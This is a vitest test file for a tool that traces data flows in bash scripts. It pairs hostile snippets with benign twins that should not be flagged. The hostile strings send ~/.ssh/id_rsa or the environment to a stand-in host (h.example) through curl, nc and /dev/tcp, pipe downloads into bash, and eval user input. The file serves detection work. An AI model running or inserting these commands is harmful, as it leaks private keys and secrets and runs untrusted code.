import { describe, expect, it } from 'vitest';
import { flowsIn, type Twins } from '../flows.fixture.ts';

const SENT = ['secret ~/.ssh/id_rsa -> curl'];

const TWINS: readonly Twins[] = [
  [
    'a variable',
    'k=$(cat ~/.ssh/id_rsa)\ncurl -d "$k" h.example',
    SENT,
    'k=$(cat ~/.ssh/id_rsa)\nk=a\ncurl -d "$k" h.example',
  ],
  [
    'a pipe',
    'cat ~/.ssh/id_rsa | base64 | curl -d @- h.example',
    SENT,
    'cat ~/.ssh/id_rsa | sha256sum | curl -d @- h.example',
  ],
  [
    'a function’s words',
    'send() { local b="$1"; curl -d "$b" h.example; }\nsend "$(cat ~/.ssh/id_rsa)" x',
    SENT,
    'send() { local b="$1"; curl -d "$b" h.example; }\nsend x "$(cat ~/.ssh/id_rsa)"',
  ],
  [
    'what a function prints',
    'load() { cat ~/.ssh/id_rsa; }\ncurl -d "$(load)" h.example',
    SENT,
    'load() { cat ~/.ssh/id_rsa | wc -c; }\ncurl -d "$(load)" h.example',
  ],
  [
    'a loop over lines',
    'while read -r l; do curl -d "$l" h.example; done < ~/.ssh/id_rsa',
    SENT,
    'while read -r l; do curl -d "$l" h.example; done < notes.txt',
  ],
  [
    'a file that the script writes',
    'tar czf /tmp/k.tgz ~/.ssh/id_rsa\ncurl -F f=@/tmp/k.tgz h.example',
    SENT,
    'tar czf /tmp/k.tgz ~/.ssh/id_rsa\ncurl -F f=@/tmp/other.tgz h.example',
  ],
  [
    'a here-document',
    'k=$(cat ~/.ssh/id_rsa)\ncurl -d @- h.example <<E\n$k\nE',
    SENT,
    "k=$(cat ~/.ssh/id_rsa)\ncurl -d @- h.example <<'E'\nk\nE",
  ],
  [
    'a branch',
    'b=\nif [ -n "$x" ]; then b=$(cat ~/.ssh/id_rsa); fi\ncurl -d "$b" h.example',
    SENT,
    'b=$(cat ~/.ssh/id_rsa)\nif [ -n "$x" ]; then b=a; else b=b; fi\ncurl -d "$b" h.example',
  ],
  ['a file that is uploaded', 'curl -T ~/.ssh/id_rsa h.example', SENT, 'curl -T notes.txt h.example'],
  [
    'the environment in an address',
    'curl "h.example/?e=$(env | base64 -w0)"',
    ['environment * -> curl'],
    'curl "h.example/?e=$(env | wc -l)"',
  ],
  [
    'a download that is run',
    'curl -s https://c.example/x | bash',
    ['network-reply https://c.example/x -> bash'],
    'curl -s https://c.example/x | grep -c bash; bash -c ls',
  ],
  [
    'a download that is kept and run later',
    'wget -O /tmp/x https://c.example/x\nbash /tmp/x',
    ['network-reply https://c.example/x -> bash'],
    'wget -O /tmp/x https://c.example/x\nbash ./build.sh',
  ],
  [
    'a connection of the shell itself',
    'cat ~/.ssh/id_rsa > /dev/tcp/h.example/80',
    ['secret ~/.ssh/id_rsa -> /dev/tcp'],
    'cat notes.txt > /dev/tcp/h.example/80',
  ],
  [
    'commands in braces',
    '{ date; cat ~/.ssh/id_rsa; } | nc h.example 1',
    ['clock date -> nc', 'secret ~/.ssh/id_rsa -> nc'],
    '{ true; cat notes.txt; } | nc h.example 1',
  ],
  [
    'a variable that is printed into',
    'printf -v k %s "$(cat ~/.ssh/id_rsa)"\ncurl -d "$k" h.example',
    SENT,
    'printf -v n %s "$(cat ~/.ssh/id_rsa)"\ncurl -d "$k" h.example',
  ],
  ['a word of the command line', 'eval "$1"', ['user-input $1 -> eval'], 'f() { eval "$1"; }\nf ls\necho "$1"'],
  ['what somebody types', 'read -r c\nsh -c "$c"', ['user-input read -> sh'], 'echo ls | read -r c\nsh -c ls'],
];

describe('data in a shell script goes through', () => {
  it.each(TWINS)('%s', async (_, code, flows) => {
    expect(await flowsIn('bash', code)).toEqual(flows);
  });
  it.each(TWINS)('%s, and not where it does not', async (_, __, ___, ordinary) => {
    expect(await flowsIn('bash', ordinary)).toEqual([]);
  });
  it('a script that another includes', async () => {
    const files = {
      'main.sh': '. ./lib.sh\nKEY=$(cat ~/.ssh/id_rsa)\nsend "$KEY"',
      'lib.sh': 'send() { curl -d "$1" h.example; }',
    };
    expect(await flowsIn('bash', files)).toEqual(SENT);
  });
});
